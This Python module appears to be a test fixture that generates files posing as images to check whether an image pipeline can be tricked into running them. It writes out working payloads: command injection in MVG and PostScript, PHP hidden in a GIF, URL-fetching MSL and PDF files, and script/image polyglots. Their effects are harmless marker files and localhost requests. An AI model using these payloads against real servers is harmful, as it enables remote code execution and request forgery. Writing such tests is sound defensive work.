"""Programs and documents that pass for pictures (S7, S16)."""

from __future__ import annotations

from .photos import photo
from .values import svg_with_links


def delegates(marker: str = "/tmp/pwned", url: str = "http://127.0.0.1:9") -> dict[str, bytes]:
    """Files that ImageMagick and its like would run, under picture names.

    Whatever interprets one of them writes the file `marker` or asks for `url`.
    """
    mvg = f"""push graphic-context
viewbox 0 0 64 64
image over 0,0 0,0 'https://x";touch "{marker}'
image over 0,0 0,0 'url({url}/mvg)'
pop graphic-context
"""
    msl = f"""<?xml version="1.0"?>
<image><read filename="{url}/msl.png"/><write filename="{marker}"/></image>
"""
    postscript = f"""%!PS-Adobe-3.0 EPSF-3.0
%%BoundingBox: 0 0 64 64
(%pipe%touch {marker}) (w) file closefile
({marker}) (w) file dup (pwned) writestring closefile
showpage
"""
    html = f"<!DOCTYPE html><script>fetch('{url}/html')</script><img src='{url}/img'>"
    binary = b"\xc5\xd0\xd3\xc6" + (32).to_bytes(4, "little")
    binary += len(postscript).to_bytes(4, "little") + bytes(18) + b"\xff\xff"
    texts = {
        "mvg.png": mvg,
        "mvg.jpg": mvg,
        "msl.jpg": msl,
        "eps.jpg": postscript,
        "eps.eps": postscript,
        "ps.png": postscript.replace(" EPSF-3.0", ""),
        "html.jpg": html,
        "playlist.jpg": f"#EXTM3U\n#EXTINF:1\n{url}/segment.ts\n",
        "php.gif": f"GIF89a<?php touch('{marker}'); ?>",
        "label.png": f"label:@{marker}",
    }
    files = {name: text.encode() for name, text in texts.items()}
    files["svg.jpg"] = files["svg.png"] = files["svg.svg"] = svg_with_links(url)
    files["dos-eps.jpg"] = binary + postscript.encode()
    files["pdf.jpg"] = f"%PDF-1.4\n1 0 obj<</OpenAction<</S/URI/URI({url}/pdf)>>>>endobj".encode()
    return files


def script_and_gif() -> bytes:
    """A valid GIF that is a valid JavaScript program too: its width opens a comment."""
    data = photo(8, 8, format="GIF")
    assert b"*/" not in data
    return data[:6] + b"/*" + data[8:] + b"*/=1;window.pwned=1;//"


def page_and_jpeg() -> bytes:
    """A valid JPEG whose comment is an HTML page."""
    page = b"<html><script>window.pwned=1</script>"
    data = photo(64, 48)
    return data[:2] + b"\xff\xfe" + (len(page) + 2).to_bytes(2) + page + data[2:]


def archive_and_jpeg() -> bytes:
    """A valid JPEG with a ZIP file's end after it."""
    return photo(64, 48) + b"PK\x05\x06" + bytes(18)
